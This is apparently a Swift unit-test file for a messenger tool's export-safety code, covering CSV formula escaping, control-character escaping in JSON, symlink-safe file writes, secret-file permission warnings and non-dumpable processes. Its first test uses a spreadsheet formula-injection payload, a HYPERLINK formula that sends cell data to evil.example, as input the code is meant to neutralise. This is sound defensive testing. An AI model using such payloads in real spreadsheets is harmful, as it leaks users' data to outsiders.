import Foundation
import XCTest

@testable import MessengerCore

/// Files and text that leave the tool (#26): spreadsheet cells that can't run as formulas, JSON a
/// terminal can show, files never written through a link or over an earlier export, secrets
/// others can read warned about.
final class FilesOutTests: XCTestCase {
    func testACellASpreadsheetWouldRunAsAFormulaGetsALeadingQuote() {
        let line = CSV.line([
            #"=HYPERLINK("http://evil.example/?x="&B1)&"@x.com"#, "+SUM(1)@x.com", "-1+2@x.com", "@cmd", "\tx", "\rx", "ok", "a=b", "",
        ])
        XCTAssertEqual(
            line, #""'=HYPERLINK(""http://evil.example/?x=""&B1)&""@x.com",'+SUM(1)@x.com,'-1+2@x.com,'@cmd,'"# + "\tx,\"'\rx\",ok,a=b,\r\n"
        )
        XCTAssertEqual(CSV.line(["-1"], forSpreadsheet: false), "-1\r\n", "the demo's own import keeps its values")
        // The contacts export, whatever the column: the email and Facebook's reason alike.
        let row = ContactOutcome(
            sendID: 1, email: "=1+1@x.com", at: 0, deliveredAt: nil, readAt: nil, status: .failed, reason: "-bad", errorCode: nil,
            messageID: nil)
        let csv = StatsExport.contactsCSV([row], kind: .warning, calendar: AccountCalendar(timeZone: .gmt))
        XCTAssertTrue(csv.contains("'=1+1@x.com,") && csv.contains(",'-bad\r\n"), csv)
    }

    func testJSONEscapesC1AndBidiControlsAndStillMeansTheSame() throws {
        let value = ["reason": "a\u{9B}31m \u{202E}evil\u{2066} \u{2028}x é 東京"]
        let json = String(decoding: try JSONEncoder().encode(value), as: UTF8.self)
        let safe = JSONSafety.escaped(json)
        XCTAssertFalse(safe.unicodeScalars.contains { JSONSafety.needsEscape($0) }, safe)
        XCTAssertTrue(safe.contains("\\u009B") && safe.contains("\\u202E") && safe.contains("\\u2066"), safe)
        XCTAssertTrue(safe.contains("é 東京"), "other text stays as it is")
        XCTAssertEqual(try JSONDecoder().decode([String: String].self, from: Data(safe.utf8)), value)
        XCTAssertEqual(JSONSafety.escaped("{\n  \"a\" : 1\n}"), "{\n  \"a\" : 1\n}", "the layout's own newlines stay")
    }

    func testFilesBesideTheDatabaseAreNeverWrittenThroughALinkNorOverAnExport() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("out-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let target = folder + "/precious"
        try Data("keep me".utf8).write(to: URL(fileURLWithPath: target))
        try FileManager.default.createSymbolicLink(atPath: folder + "/.messenger-dash-rate-5001", withDestinationPath: target)
        XCTAssertThrowsError(try OutputFile.open(folder + "/.messenger-dash-rate-5001", O_RDWR | O_CREAT)) { error in
            XCTAssertTrue("\(error)".contains("is a symbolic link"), "\(error)")
        }
        XCTAssertEqual(try String(contentsOfFile: target, encoding: .utf8), "keep me")
        let first = try OutputFile.createNew(in: folder, name: "stats.csv", contents: Data("1".utf8))
        let second = try OutputFile.createNew(in: folder, name: "stats.csv", contents: Data("2".utf8))
        XCTAssertEqual([first, second].map { ($0 as NSString).lastPathComponent }, ["stats.csv", "stats-2.csv"])
        XCTAssertEqual(try String(contentsOfFile: first, encoding: .utf8), "1", "the first export is kept")
        try FileManager.default.createSymbolicLink(atPath: folder + "/codes.txt", withDestinationPath: target)
        let linked = try OutputFile.createNew(in: folder, name: "codes.txt", contents: Data("x".utf8))
        XCTAssertEqual((linked as NSString).lastPathComponent, "codes-2.txt", "a link under the name is passed over")
        XCTAssertEqual(try String(contentsOfFile: target, encoding: .utf8), "keep me")
    }

    func testASecretOthersCanReadIsWarnedAbout() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("secret-\(UUID().uuidString)").path
        try Data("s3cret".utf8).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        chmod(path, 0o644)
        let warning = try XCTUnwrap(InputFile.sharedSecretWarning(path))
        XCTAssertTrue(warning.contains("mode 644") && warning.contains("chmod 600"), warning)
        chmod(path, 0o600)
        XCTAssertNil(InputFile.sharedSecretWarning(path))
    }

    func testAProcessHoldingTokensBecomesNonDumpable() {
        ProcessSafety.becomeNonDumpable()
        XCTAssertFalse(ProcessSafety.isDumpable, "no core dump, no ptrace by the same user")
    }
}
